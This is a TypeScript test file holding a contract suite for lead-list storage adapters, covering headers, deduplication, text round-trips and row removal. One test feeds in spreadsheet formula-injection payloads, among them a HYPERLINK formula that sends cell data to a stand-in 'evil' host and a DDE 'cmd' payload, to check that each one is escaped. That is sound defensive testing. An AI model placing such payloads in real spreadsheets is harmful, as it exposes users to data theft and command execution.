// What every list of leads must do; each adapter's test runs it.
import { randomUUID } from 'node:crypto';
import { expect, test } from 'vitest';
import { type Lead, type Leads, leadColumns } from './port.ts';

/** `rows`: every row of the list as it is kept, its header first. */
export type OpenLeads = { leads: Leads; rows(): Promise<string[][]> };

export const sampleLead = (cells: Record<string, string> = {}): Lead => ({
  id: randomUUID(),
  cells: {
    name: 'June',
    email: 'june@example.com',
    timestamp: '2026-11-20T12:00:00.000Z',
    ...cells,
  },
});

/** Declares the tests of the contract for lists that `open` makes, each of them empty. */
export function leadsContract(open: () => Promise<OpenLeads>): void {
  const at = (column: keyof typeof leadColumns) => Object.keys(leadColumns).indexOf(column) + 1;

  test('MAIL-04 the first lead comes with a header, every cell under its own', async () => {
    const { leads, rows } = await open();
    const cells = Object.fromEntries(Object.keys(leadColumns).map((name) => [name, `<${name}>`]));
    const lead = sampleLead({ ...cells, timestamp: '2026-11-20T12:00:00.000Z' });
    await leads.append(lead);
    const [header, row, ...others] = await rows();
    expect(header).toEqual(['Lead', ...Object.values(leadColumns)]);
    expect(row).toEqual([lead.id, ...Object.keys(leadColumns).map((name) => lead.cells[name])]);
    expect(others).toEqual([]);
  });

  test('MAIL-04 the same lead again is no second row, whoever asks', async () => {
    const { leads, rows } = await open();
    const [first, second] = [sampleLead(), sampleLead()];
    for (const lead of [first, second, first, { ...second, cells: {} }]) await leads.append(lead);
    expect((await rows()).map(([id]) => id)).toEqual(['Lead', first.id, second.id]);
  });

  const texts = [
    'Łódź, 面包 "🥐"\nand a second line;\ttabbed',
    'a comma, a "quote"',
    "it's",
    ' blanks ',
    '12:30',
    '1e5',
    '',
  ];
  test.each(texts)('MAIL-04 a cell keeps its text: %j', async (text) => {
    const { leads, rows } = await open();
    await leads.append(sampleLead({ notes: text, description: text }));
    await leads.append(sampleLead());
    const all = await rows();
    expect(all).toHaveLength(3);
    expect(all[1]?.[at('notes')]).toBe(text);
    expect(all[1]?.[at('description')]).toBe(text);
    expect(all[2]?.[at('email')]).toBe('june@example.com');
  });

  const formulas = [
    '=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
    '+49 30 1234',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r\n=1',
    ' =1',
    '\u200b=1',
    '\uff1d1',
    "=cmd|' /C calc'!A0",
  ];
  test.each(formulas)('MAIL-04 no cell starts a formula: %j', async (text) => {
    const { leads, rows } = await open();
    await leads.append(sampleLead({ name: text, notes: text }));
    for (const cell of [(await rows())[1]?.[at('name')], (await rows())[1]?.[at('notes')]]) {
      expect(cell).toBe(`'${text.replace('\r\n', '\n')}`);
    }
  });

  test('MAIL-04 a removed lead leaves no row, and the others as they are', async () => {
    const { leads, rows } = await open();
    const all = Array.from({ length: 5 }, (_, i) => sampleLead({ notes: `line\n${i}` }));
    for (const lead of all) await leads.append(lead);
    const before = await rows();
    const gone = [all[1]?.id ?? '', all[3]?.id ?? '', randomUUID()];
    await leads.remove(gone);
    await leads.remove(gone);
    expect(await rows()).toEqual(before.filter(([id = '']) => !gone.includes(id)));
    await leads.append(all[0] ?? sampleLead());
    expect(await rows()).toHaveLength(4);
  });

  test('MAIL-04 removing from a list that was never written does no harm', async () => {
    const { leads, rows } = await open();
    await leads.remove([randomUUID()]);
    expect(await rows()).toEqual([]);
    await leads.append(sampleLead());
    expect(await rows()).toHaveLength(2);
  });
}
